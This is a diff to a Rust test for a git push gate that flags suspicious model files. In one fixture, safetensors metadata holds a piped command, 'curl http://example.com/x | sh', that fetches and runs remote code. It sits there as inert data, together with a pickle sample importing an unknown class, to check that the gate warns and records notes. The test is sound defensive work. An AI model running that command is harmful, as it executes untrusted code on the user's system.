@@ -18,15 +18,19 @@ fn gated(policy: Option<&Path>) -> Env {
 fn suspicious_is_accepted_and_visible_in_notes() {
     let e = gated(None);
     e.write("models/w.safetensors", &safetensors(Some(("note", "curl http://example.com/x | sh"))));
+    e.write("models/custom.pkl", SUSPICIOUS_PICKLE);
     e.write("README.md", b"readme\n");
     let c = e.commit("suspicious metadata");
     let out = assert_accepted(e.push(&["main"]));
     assert!(out.contains("warning: models/w.safetensors") && out.contains("safetensors-metadata-suspicious"), "{out}");
+    assert!(out.contains("warning: models/custom.pkl") && out.contains("pickle-import-unknown"), "{out}");
 
     let log = e.b(&["log", "--notes=modelgate", "-1", "--format=%H%n%N", "main"]);
     assert!(log.starts_with(&c), "{log}");
     assert!(log.contains("models/w.safetensors: suspicious (safetensors)"), "{log}");
     assert!(log.contains("codes: safetensors-metadata-suspicious"), "{log}");
+    assert!(log.contains("models/custom.pkl: suspicious (pickle)"), "{log}");
+    assert!(log.contains("imports: __main__.MyModel; codes: pickle-import-unknown"), "{log}");
     assert!(!log.contains("README.md"), "only model files are noted: {log}");
     // The pusher sees it too once the notes are fetched.
     e.w(&["fetch", "-q", "origin", "refs/notes/*:refs/notes/*"]);
